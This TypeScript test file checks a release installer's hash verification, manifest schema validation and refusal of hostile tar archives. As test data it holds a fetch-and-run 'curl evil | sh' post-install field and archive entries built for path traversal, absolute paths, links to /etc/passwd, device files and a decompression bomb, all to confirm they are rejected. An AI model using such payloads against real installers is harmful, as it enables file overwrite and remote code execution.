// Installing releases into a deploy root: hashes verified, manifests schema-checked, hostile
// archives refused with their own codes, and nothing written outside the release folder.

import assert from 'node:assert/strict';
import { cp, mkdir, readdir, readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test } from 'node:test';
import { create, extract } from 'tar';
import { installRelease } from '../../kernel/release/install.ts';
import { readRegistry, withPermanent, withoutRelease, writeRegistry } from '../../kernel/release/registry.ts';
import { sharedExamples, rawTarball, tempDir, watchWrites } from './helpers.ts';

const built = sharedExamples();

/** The deploy root's contents. */
async function snapshotTree(dir: string): Promise<string[]> {
  return (await readdir(dir, { recursive: true })).map(String).sort();
}

/** A deploy root with its releases/ folder, and a watch on both: what a refused install writes there. */
async function watchedRoot(...alsoWatch: string[]): Promise<{ root: string; written: () => Promise<string[]> }> {
  const root = await tempDir('theseus-root-');
  await mkdir(join(root, 'releases'));
  const watcher = watchWrites([root, join(root, 'releases'), ...alsoWatch]);
  return { root, written: () => watcher.stop() };
}

test('a release folder and a tarball install, verified, and are recorded as unpacked', async () => {
  const { results } = await built;
  const root = await tempDir('theseus-root-');
  const fromTarball = await installRelease(root, results[0]!.tarball);
  assert.equal(fromTarball.version, '0.1.0');
  assert.equal(fromTarball.alreadyInstalled, false);
  const fromFolder = await installRelease(root, results[1]!.dir);
  assert.equal(fromFolder.version, '0.2.0');
  // Installing the same release again is a no-op.
  assert.equal((await installRelease(root, results[1]!.tarball)).alreadyInstalled, true);
  const registry = await readRegistry(root);
  assert.deepEqual(registry.releases.map((r) => [r.version, r.status]), [['0.1.0', 'unpacked'], ['0.2.0', 'unpacked']]);
  // Only the release's own files were copied (not the tarball, nor anything else in the folder).
  assert.deepEqual(await snapshotTree(join(root, 'releases', '0.2.0')), ['manifest.json', 'plan.json', 'services', 'services/sequence', 'services/sequence/sequence.mjs']);
});

test('a tarball copied into releases/<version>/ installs by its version, as the seed deploys', async () => {
  const { results } = await built;
  const root = await tempDir('theseus-root-');
  const { mkdir } = await import('node:fs/promises');
  await mkdir(join(root, 'releases', '0.3.0'), { recursive: true });
  await cp(results[2]!.tarball, join(root, 'releases', '0.3.0', 'sequence-0.3.0.tar.gz'));
  const installed = await installRelease(root, '0.3.0');
  assert.equal(installed.version, '0.3.0');
  assert.equal(installed.manifest.services.sequence!.vsn, '1');
});

test('tampered releases are refused, each with its own code', async () => {
  const { results } = await built;
  const cases: Array<{ name: string; tamper(dir: string): Promise<void>; code: string; message?: RegExp }> = [
    {
      name: 'a bundle changed after the build',
      tamper: async (dir) => writeFile(join(dir, 'services/sequence/sequence.mjs'), `${await readFile(join(dir, 'services/sequence/sequence.mjs'), 'utf8')}\n// patched`),
      code: 'E_RELEASE_HASH_MISMATCH',
      message: /sequence\.mjs does not match the manifest/,
    },
    {
      name: 'a manifest with a field missing',
      tamper: async (dir) => {
        const manifest = JSON.parse(await readFile(join(dir, 'manifest.json'), 'utf8')) as Record<string, unknown>;
        delete manifest.protocol;
        await writeFile(join(dir, 'manifest.json'), JSON.stringify(manifest));
      },
      code: 'E_MANIFEST_INVALID',
      message: /manifest\.json is not a valid release manifest: .*protocol/,
    },
    {
      name: 'a manifest with an extra field',
      tamper: async (dir) => {
        const manifest = JSON.parse(await readFile(join(dir, 'manifest.json'), 'utf8')) as Record<string, unknown>;
        manifest.postInstall = 'curl evil | sh';
        await writeFile(join(dir, 'manifest.json'), JSON.stringify(manifest));
      },
      code: 'E_MANIFEST_INVALID',
    },
    {
      name: 'a manifest with a mistyped field',
      tamper: async (dir) => {
        const manifest = JSON.parse(await readFile(join(dir, 'manifest.json'), 'utf8')) as { drainTimeoutMs: unknown };
        manifest.drainTimeoutMs = 'soon';
        await writeFile(join(dir, 'manifest.json'), JSON.stringify(manifest));
      },
      code: 'E_MANIFEST_INVALID',
      message: /drainTimeoutMs/,
    },
    {
      name: 'a file the manifest does not list',
      tamper: async (dir) => writeFile(join(dir, 'services/sequence/extra.mjs'), 'export {}'),
      code: 'E_RELEASE_EXTRA_FILE',
    },
    {
      // Read and parsed on the kernel's main thread: a huge one is refused before it is read.
      name: 'a manifest of 17 MiB',
      tamper: async (dir) => writeFile(join(dir, 'manifest.json'), `${' '.repeat(17 * 1024 * 1024)}{}`),
      code: 'E_MANIFEST_INVALID',
      message: /over the limit/,
    },
    {
      // `'constructor' in manifest.files` is true for every object: an own-key check is needed.
      name: "an unlisted file named like an Object.prototype property ('constructor')",
      tamper: async (dir) => writeFile(join(dir, 'constructor'), 'unsigned'),
      code: 'E_RELEASE_EXTRA_FILE',
    },
  ];
  for (const { name, tamper, code, message } of cases) {
    const copy = await tempDir('theseus-tampered-');
    await cp(results[1]!.dir, copy, { recursive: true });
    await tamper(copy);
    const { root, written } = await watchedRoot();
    await assert.rejects(installRelease(root, copy), (error: Error & { code: string }) => {
      assert.equal(error.code, code, `${name}: ${error.message}`);
      if (message) assert.match(error.message, message, name);
      return true;
    });
    assert.deepEqual(await written(), [], `${name}: the refused install wrote into the deploy root`);
  }
});

test('hostile archives are refused before anything is written, each with its own code', async () => {
  const outside = await tempDir('theseus-outside-');
  const cases: Array<{ name: string; archive: Buffer; code: string; limits?: { maxEntryBytes: number; maxTotalBytes: number; maxEntries: number } }> = [
    { name: 'a ../ entry', archive: rawTarball([{ path: `../../../..${outside}/escaped.txt`, data: Buffer.from('x') }]), code: 'E_TAR_TRAVERSAL' },
    { name: 'a nested ../ entry', archive: rawTarball([{ path: 'releases/0.9.0/../../../escaped.txt', data: Buffer.from('x') }]), code: 'E_TAR_TRAVERSAL' },
    { name: 'an absolute path', archive: rawTarball([{ path: `${outside}/absolute.txt`, data: Buffer.from('x') }]), code: 'E_TAR_ABSOLUTE' },
    { name: 'a symlink', archive: rawTarball([{ path: 'releases/0.9.0/link', type: 'SymbolicLink', linkpath: '/etc/passwd' }]), code: 'E_TAR_SYMLINK' },
    { name: 'a hard link', archive: rawTarball([{ path: 'releases/0.9.0/link', type: 'Link', linkpath: '/etc/passwd' }]), code: 'E_TAR_HARDLINK' },
    { name: 'a character device', archive: rawTarball([{ path: 'releases/0.9.0/tty', type: 'CharacterDevice' }]), code: 'E_TAR_DEVICE' },
    { name: 'a FIFO', archive: rawTarball([{ path: 'releases/0.9.0/pipe', type: 'FIFO' }]), code: 'E_TAR_DEVICE' },
    {
      name: 'an oversize entry (a decompression bomb: 8 MB of zeros in a few KB)',
      archive: rawTarball([{ path: 'releases/0.9.0/bomb.bin', data: Buffer.alloc(8 * 1024 * 1024) }]),
      code: 'E_TAR_TOO_LARGE',
      limits: { maxEntryBytes: 1024 * 1024, maxTotalBytes: 4 * 1024 * 1024, maxEntries: 100 },
    },
    {
      name: 'too much in total',
      archive: rawTarball(Array.from({ length: 5 }, (_, i) => ({ path: `releases/0.9.0/part${i}.bin`, data: Buffer.alloc(512 * 1024) }))),
      code: 'E_TAR_TOO_LARGE',
      limits: { maxEntryBytes: 1024 * 1024, maxTotalBytes: 2 * 1024 * 1024, maxEntries: 100 },
    },
    { name: 'not a tarball at all', archive: Buffer.concat([Buffer.from([0x1f, 0x8b]), Buffer.from('garbage that is not gzip')]), code: 'E_TAR_CORRUPT' },
  ];
  for (const { name, archive, code, limits } of cases) {
    const dir = await tempDir('theseus-hostile-');
    const file = join(dir, 'evil.tar.gz');
    await writeFile(file, archive);
    // Watched from before the install starts: not "nothing left" after the installer cleaned
    // up, but nothing ever created, not even the staging folder (the scan comes first).
    const { root, written } = await watchedRoot(outside);
    await assert.rejects(installRelease(root, file, limits ? { limits } : {}), (error: Error & { code: string }) => {
      assert.equal(error.code, code, `${name}: got ${error.code}: ${error.message}`);
      assert.match(error.message, /evil\.tar\.gz/, `${name}: the error names the archive`);
      return true;
    });
    assert.deepEqual(await written(), [], `${name}: something was written into the deploy root or outside it`);
    assert.deepEqual(await snapshotTree(root), ['releases'], `${name}: something was left in the deploy root`);
  }
});

test('a tarball whose release folder holds an unlisted file is refused, whatever the name', async () => {
  const { results } = await built;
  // Renamed into place whole (not copied file by file like a folder), so the check must hold here too.
  for (const name of ['services/sequence/extra.mjs', 'constructor', '__proto__', 'toString', 'hasOwnProperty', 'extra.tar.gz']) {
    const image = await tempDir('theseus-image-');
    await extract({ file: results[1]!.tarball, cwd: image });
    await writeFile(join(image, 'releases', '0.2.0', name), 'not in the manifest, not signed');
    const entries = (await readdir(image, { recursive: true, withFileTypes: true })).filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name).slice(image.length + 1));
    const archive = join(await tempDir('theseus-extra-'), 'sequence-0.2.0.tar.gz');
    await create({ cwd: image, file: archive, gzip: true, portable: true }, entries.sort());
    const { root, written } = await watchedRoot();
    await assert.rejects(installRelease(root, archive), (error: Error & { code: string }) => {
      assert.equal(error.code, 'E_RELEASE_EXTRA_FILE', `${name}: ${error.message}`);
      return true;
    });
    await written();
    assert.deepEqual(await snapshotTree(root), ['releases'], `${name}: the refused release was left behind`);
    assert.deepEqual((await readRegistry(root)).releases, [], `${name}: the refused release was registered`);
  }
});

test('a tarball named for one version and holding another is refused before it is unpacked', async () => {
  const { results } = await built;
  const renamed = join(await tempDir('theseus-renamed-'), 'sequence-0.3.0.tar.gz');
  await cp(results[1]!.tarball, renamed);
  const { root, written } = await watchedRoot();
  await assert.rejects(installRelease(root, renamed), { code: 'E_RELEASE_VERSION_MISMATCH' });
  assert.deepEqual(await written(), [], 'nothing was unpacked');
  // The same archive under its own name, or under a name without a version, installs.
  const plain = join(await tempDir('theseus-renamed-'), 'release.tar.gz');
  await cp(results[1]!.tarball, plain);
  assert.equal((await installRelease(root, plain)).version, '0.2.0');
});

test('the same version with different contents is refused', async () => {
  const { results } = await built;
  const root = await tempDir('theseus-root-');
  await installRelease(root, results[1]!.dir);
  const copy = await tempDir('theseus-other-');
  await cp(results[1]!.dir, copy, { recursive: true });
  const manifest = JSON.parse(await readFile(join(copy, 'manifest.json'), 'utf8')) as { drainTimeoutMs: number };
  manifest.drainTimeoutMs = 1234;
  await writeFile(join(copy, 'manifest.json'), JSON.stringify(manifest));
  await assert.rejects(installRelease(root, copy), { code: 'E_RELEASE_CONFLICT' });
  assert.equal((await stat(join(root, 'releases', '0.2.0', 'manifest.json'))).isFile(), true);
});

test('the registry: written atomically, the permanent and current releases cannot be removed', async () => {
  const { results } = await built;
  const root = await tempDir('theseus-root-');
  for (const result of results) await installRelease(root, result.dir);
  await writeRegistry(root, withPermanent(await readRegistry(root), '0.1.0'));
  const registry = await readRegistry(root);
  assert.throws(() => withoutRelease(registry, '0.1.0'), { code: 'E_REMOVE_REFUSED' });
  assert.throws(() => withoutRelease(registry, '9.9.9'), { code: 'E_RELEASE_NOT_INSTALLED' });
  const trimmed = withoutRelease(registry, '0.2.0');
  assert.deepEqual(trimmed.releases.map((r) => r.version), ['0.1.0', '0.3.0']);
  // No temporary file is left next to it.
  assert.deepEqual((await readdir(join(root, 'releases'))).filter((name) => name.includes('.tmp')), []);
  await writeFile(join(root, 'releases', 'RELEASES'), '{ not json');
  await assert.rejects(readRegistry(root), { code: 'E_REGISTRY_INVALID' });
});
